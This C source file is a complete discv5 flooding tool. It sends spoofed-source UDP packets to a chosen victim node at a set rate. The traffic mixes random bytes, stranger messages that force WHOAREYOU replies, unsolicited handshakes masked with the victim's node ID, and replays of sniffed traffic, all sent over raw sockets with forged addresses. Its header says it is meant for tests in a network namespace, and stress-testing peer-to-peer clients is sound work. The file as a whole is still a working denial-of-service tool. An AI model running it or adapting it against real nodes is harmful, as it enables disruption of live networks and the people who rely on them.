/*
 * A flood of discv5 packets from addresses that are not the sender's, for tests in a namespace:
 *
 *     flood DEVICE VICTIM-IP PORT NODE-ID-HEX RATE SECONDS
 *
 * From 1,000 addresses (21.0.0.0/22), a quarter of each kind: random bytes; messages of strangers,
 * each of which asks for a WHOAREYOU; handshakes that nobody asked for; replays of what DEVICE
 * carried to the victim before, half of them from the address that they came from. Prints what was
 * sent. Spec: devp2p discv5/discv5-wire.md "Packet Encoding"
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>

#define ADDRESSES    1000u
#define POOL         4096u /* packets of each kind, made before: sending is all that the clock sees */
#define RECORDED     1024u
#define BATCH        64u
#define PACKET_MAX   1280u
#define HEADERS      (sizeof(struct iphdr) + sizeof(struct udphdr))
#define LISTEN_MS    3000
#define STATIC_BYTES 23u /* of a header, behind the 16 of the IV */

enum kind { RANDOM, STRANGER, HANDSHAKE, REPLAY, KINDS };

struct packet {
    size_t n;
    uint32_t from; /* 0: any of the addresses; network order */
    uint16_t port;
    uint8_t b[PACKET_MAX];
};

static struct packet pool[KINDS][POOL];
static size_t n_pool[KINDS];
static uint8_t node_id[32];
static struct sockaddr_in victim = {.sin_family = AF_INET};
static uint64_t seed = 88172645463325252u;

static uint32_t draw(uint32_t below)
{
    seed ^= seed << 13;
    seed ^= seed >> 7;
    seed ^= seed << 17;
    return (uint32_t)((seed >> 32) * below >> 32);
}

static void die(const char *what)
{
    fflush(stdout);
    perror(what);
    exit(1);
}

static void fill(void *p, size_t n)
{
    if (getrandom(p, n, 0) != (ssize_t)n) {
        die("getrandom");
    }
}

/* Mask b[16..16+n) with the IV in front, as one that knows the victim's id can. */
static void mask(uint8_t *b, size_t n)
{
    EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
    int out;

    if (c == NULL || EVP_EncryptInit_ex(c, EVP_aes_128_ctr(), NULL, node_id, b) != 1 ||
        EVP_EncryptUpdate(c, b + 16, &out, b + 16, (int)n) != 1) {
        die("AES");
    }
    EVP_CIPHER_CTX_free(c);
}

static void make_header(struct packet *p, uint8_t flag, uint16_t authdata)
{
    fill(p->b, PACKET_MAX);
    memcpy(p->b + 16, "discv5\x00\x01", 8);
    p->b[24] = flag;
    p->b[37] = (uint8_t)(authdata >> 8); /* behind a nonce of 12 */
    p->b[38] = (uint8_t)authdata;
}

static void make(enum kind kind, struct packet *p)
{
    switch (kind) {
    case RANDOM:
        fill(p->b, PACKET_MAX);
        p->n = 1 + draw(PACKET_MAX - 1);
        break;
    case STRANGER: /* source id, and a message that nobody can open */
        make_header(p, 0, 32);
        mask(p->b, STATIC_BYTES + 32);
        p->n = 16 + STATIC_BYTES + 32 + 44;
        break;
    case HANDSHAKE: /* source id, sizes, signature, ephemeral key */
        make_header(p, 2, 34 + 64 + 33);
        p->b[39 + 32] = 64;
        p->b[39 + 33] = 33;
        mask(p->b, STATIC_BYTES + 34 + 64 + 33);
        p->n = 16 + STATIC_BYTES + 34 + 64 + 33 + 44;
        break;
    case REPLAY:
    case KINDS:
        break;
    }
}

/* What honest nodes send to the victim. */
static void record(const char *device)
{
    struct sockaddr_ll at = {.sll_family = AF_PACKET,
                             .sll_protocol = htons(ETH_P_ALL),
                             .sll_ifindex = (int)if_nametoindex(device)};
    int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
    struct pollfd wait = {.fd = s, .events = POLLIN};
    uint8_t b[2048];

    if (s < 0 || bind(s, (struct sockaddr *)&at, sizeof at) != 0) {
        die("packet socket");
    }
    printf("listening\n");
    fflush(stdout);
    while (n_pool[REPLAY] < RECORDED && poll(&wait, 1, LISTEN_MS) > 0) {
        ssize_t n = recv(s, b, sizeof b, 0);
        struct packet *p = &pool[REPLAY][n_pool[REPLAY]];
        struct iphdr ip;
        struct udphdr udp;

        if (n <= (ssize_t)HEADERS) {
            continue;
        }
        memcpy(&ip, b, sizeof ip);
        memcpy(&udp, b + sizeof ip, sizeof udp);
        if (ip.protocol != IPPROTO_UDP || ip.daddr != victim.sin_addr.s_addr || ip.ihl != 5 ||
            udp.dest != victim.sin_port || (size_t)n - HEADERS > PACKET_MAX) {
            continue;
        }
        p->n = (size_t)n - HEADERS;
        memcpy(p->b, b + HEADERS, p->n);
        p->from = n_pool[REPLAY] % 2 == 0 ? ip.saddr : 0;
        p->port = udp.source;
        n_pool[REPLAY]++;
    }
    close(s);
}

static size_t put(uint8_t *out, const struct packet *p)
{
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
    struct udphdr udp = {.dest = victim.sin_port};
    uint32_t any = htonl((21u << 24) + 1 + draw(ADDRESSES));

    ip.tot_len = htons((uint16_t)(HEADERS + p->n));
    ip.saddr = p->from != 0 ? p->from : any;
    ip.daddr = victim.sin_addr.s_addr;
    udp.source = p->from != 0 ? p->port : htons((uint16_t)(1024 + draw(60000)));
    udp.len = htons((uint16_t)(sizeof udp + p->n)); /* no checksum: allowed over IPv4 */
    memcpy(out, &ip, sizeof ip);
    memcpy(out + sizeof ip, &udp, sizeof udp);
    memcpy(out + HEADERS, p->b, p->n);
    return HEADERS + p->n;
}

static uint64_t now_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

static void send_batch(int s, size_t n, uint64_t sent[KINDS])
{
    static uint8_t space[BATCH][HEADERS + PACKET_MAX];
    static struct mmsghdr msgs[BATCH];
    static struct iovec pieces[BATCH];

    for (size_t i = 0; i < n; i++) {
        enum kind kind = (enum kind)draw(KINDS);

        kind = n_pool[kind] == 0 ? RANDOM : kind;
        pieces[i] =
            (struct iovec){space[i], put(space[i], &pool[kind][draw((uint32_t)n_pool[kind])])};
        msgs[i].msg_hdr = (struct msghdr){.msg_name = &victim,
                                          .msg_namelen = sizeof victim,
                                          .msg_iov = &pieces[i],
                                          .msg_iovlen = 1};
        sent[kind]++;
    }
    if (sendmmsg(s, msgs, (unsigned)n, 0) < 0 && errno != ENOBUFS) {
        die("sendmmsg");
    }
}

static void flood(uint64_t rate, uint64_t seconds)
{
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    uint64_t sent[KINDS] = {0}, all = 0, begun = now_ns(), end = begun + seconds * 1000000000u;

    if (s < 0) {
        die("raw socket");
    }
    for (uint64_t now = begun; now < end; now = now_ns()) {
        uint64_t due = (now - begun) / 1000 * rate / 1000000;
        uint64_t n = due - all < BATCH ? due - all : BATCH;

        if (n == 0) {
            usleep(300);
            continue;
        }
        if (due - all > rate / 10) { /* the machine is busy: what was missed is not made up for */
            begun += (due - all) * 1000000 / rate * 1000;
            continue;
        }
        send_batch(s, n, sent);
        all += n;
    }
    printf("sent %lu random %lu strangers %lu handshakes %lu replays %lu\n", (unsigned long)all,
           (unsigned long)sent[RANDOM], (unsigned long)sent[STRANGER],
           (unsigned long)sent[HANDSHAKE], (unsigned long)sent[REPLAY]);
}

int main(int argc, char **argv)
{
    if (argc != 7 || inet_pton(AF_INET, argv[2], &victim.sin_addr) != 1 || strlen(argv[4]) != 64) {
        fprintf(stderr, "usage: flood DEVICE VICTIM-IP PORT NODE-ID-HEX RATE SECONDS\n");
        return 2;
    }
    victim.sin_port = htons((uint16_t)atoi(argv[3]));
    for (size_t i = 0; i < 32; i++) {
        sscanf(argv[4] + 2 * i, "%2hhx", &node_id[i]);
    }
    for (enum kind k = RANDOM; k < REPLAY; k++) {
        for (n_pool[k] = 0; n_pool[k] < POOL; n_pool[k]++) {
            make(k, &pool[k][n_pool[k]]);
        }
    }
    record(argv[1]);
    printf("recorded %zu\n", n_pool[REPLAY]);
    fflush(stdout);
    flood(strtoul(argv[5], NULL, 10), strtoul(argv[6], NULL, 10));
    return 0;
}
